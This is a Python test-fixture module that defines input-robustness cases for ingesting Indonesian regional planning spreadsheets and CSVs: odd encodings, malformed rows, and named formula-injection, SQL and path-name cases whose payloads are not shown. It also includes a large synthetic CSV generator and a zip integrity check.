    Case("hidden_sheets_rows", "renja/lembar_tersembunyi.xlsx", _hidden, "loaded", verify=_verify_hidden),
    Case(
        "formula_errors",
        "renja/rumus_error.xlsx",
        _formula_errors,
        "loaded",
        verify=_verify_formula_errors,
        quarantined_codes=(SUB1[0], SUB2[0]),
    ),
    Case(
        "cp1252_csv",
        "musrenbang/usulan_cp1252.csv",
        lambda p: write_csv(p, usulan_rows(_extra_usulan(_CP1252_NAME)), encoding="cp1252"),
        "loaded",
        verify=_verify_usulan_text(_CP1252_NAME, "cp1252"),
        table="staged.usulan",
    ),
    Case(
        "utf16_csv",
        "musrenbang/usulan_utf16.csv",
        lambda p: write_csv(
            p,
            usulan_rows(_extra_usulan("Irigasi Ṣawah 水")),
            encoding="utf-16-le",
            delimiter="\t",
            bom=b"\xff\xfe",
        ),
        "loaded",
        verify=_verify_usulan_text("Irigasi Ṣawah 水", "utf-16"),
        table="staged.usulan",
    ),
    Case(
        "utf16_csv_no_bom",
        "musrenbang/usulan_utf16_tanpa_bom.csv",
        lambda p: write_csv(p, usulan_rows(_extra_usulan("Drainase")), encoding="utf-16-le", delimiter="\t"),
        "loaded",
        verify=_verify_usulan_text("Drainase"),
        table="staged.usulan",
    ),
    Case(
        "utf8_bom_csv",
        "musrenbang/usulan_bom.csv",
        lambda p: write_csv(p, usulan_rows(_extra_usulan("Talud Penahan Tanah")), bom=b"\xef\xbb\xbf"),
        "loaded",
        verify=_verify_usulan_text("Talud Penahan Tanah"),
        table="staged.usulan",
    ),
    Case(
        "nul_bytes_csv",
        "musrenbang/usulan_nul.csv",
        _nul_csv,
        "loaded",
        verify=_verify_usulan_text("Sumur Bor"),
        table="staged.usulan",
    ),
    Case(
        "ragged_csv",
        "musrenbang/usulan_kolom_berlebih.csv",
        _ragged,
        "loaded",
        verify=_verify_ragged,
        table="staged.usulan",
    ),
    Case(
        "mixed_decimals",
        "renja/desimal_campur.xlsx",
        _mixed_decimals,
        "loaded",
        verify=_verify_mixed_decimals,
    ),
    Case(
        "text_in_number_columns",
        "renja/teks_di_kolom_angka.xlsx",
        _text_in_numbers,
        "loaded",
        verify=_verify_text_in_numbers,
        quarantined_codes=(TEXT_IN_NUMBER,),
    ),
    Case(
        "emoji_control_chars",
        "musrenbang/usulan_emoji.csv",
        _emoji,
        "loaded",
        verify=_verify_emoji,
        table="staged.usulan",
    ),
    Case(
        "formula_injection_xlsx",
        "renja/injeksi_rumus.xlsx",
        _injection_xlsx,
        "loaded",
        verify=_verify_injection_xlsx,
    ),
    Case(
        "formula_injection_csv",
        "pokir/injeksi_rumus.csv",
        _injection_csv,
        "loaded",
        verify=_verify_injection_csv,
        table="staged.usulan",
    ),
    Case("sql_in_sheet_and_cells", "renja/sql_lembar.xlsx", _sql_names, "loaded", verify=_verify_sql_names),
    Case("name_spaces_quotes", SPACES_QUOTES, renja_xlsx, "loaded", verify=_verify_name),
    Case("name_non_latin", NON_LATIN, renja_xlsx, "loaded", verify=_verify_name),
    Case("name_backslash_dotdot", BACKSLASH_DOTDOT, renja_xlsx, "loaded", verify=_verify_name),
    Case("name_sql", SQL_FILE, renja_xlsx, "loaded", verify=_verify_name),
]

CASE_IDS = [c.id for c in CASES]


def build_case(case: Case, raw: Path) -> Path:
    path = case.path(raw)
    path.parent.mkdir(parents=True, exist_ok=True)
    case.build(path)
    return path


def build_corpus(raw: Path) -> list[Case]:
    """Every case meant for the combined run, written under `raw`."""
    cases = [c for c in CASES if c.in_corpus_run]
    for case in cases:
        build_case(case, raw)
    return cases


def million_rows_csv(path: Path, rows: int = 1_000_000) -> int:
    """A musrenbang export of `rows` proposals (SIPD-like, `;`-separated), written in a
    stream; returns the number of physical lines (header included)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    kec = ["Cikeusal", "Petir", "Walantaka", "Curug", "Ciruas", "Kragilan"]
    works = [
        "Pembangunan Jalan Lingkungan",
        "Rehabilitasi Posyandu",
        "Pembangunan Drainase",
        "Pengadaan Alat Tani",
    ]
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write(";".join(USULAN_HEADER) + "\r\n")
        buf = []
        for i in range(1, rows + 1):
            buf.append(
                f"MR-{i:07d};{works[i % 4]} {i % 97};Rusak {i % 13};Kp. {i % 211} RT {i % 9:02d};"
                f"{kec[i % 6]};Desa {i % 101};{i % 50 + 1};Unit;{(i % 900 + 100) * 1000:,}".replace(",", ".")
                + ";DPUPR\r\n"
            )
            if len(buf) == 10000:
                fh.write("".join(buf))
                buf = []
        fh.write("".join(buf))
    return rows + 1


def crc_ok(path: Path) -> bool:
    """True when every member of a zip (an xlsx) reads back with a correct CRC."""
    with zipfile.ZipFile(path) as archive:
        return archive.testzip() is None
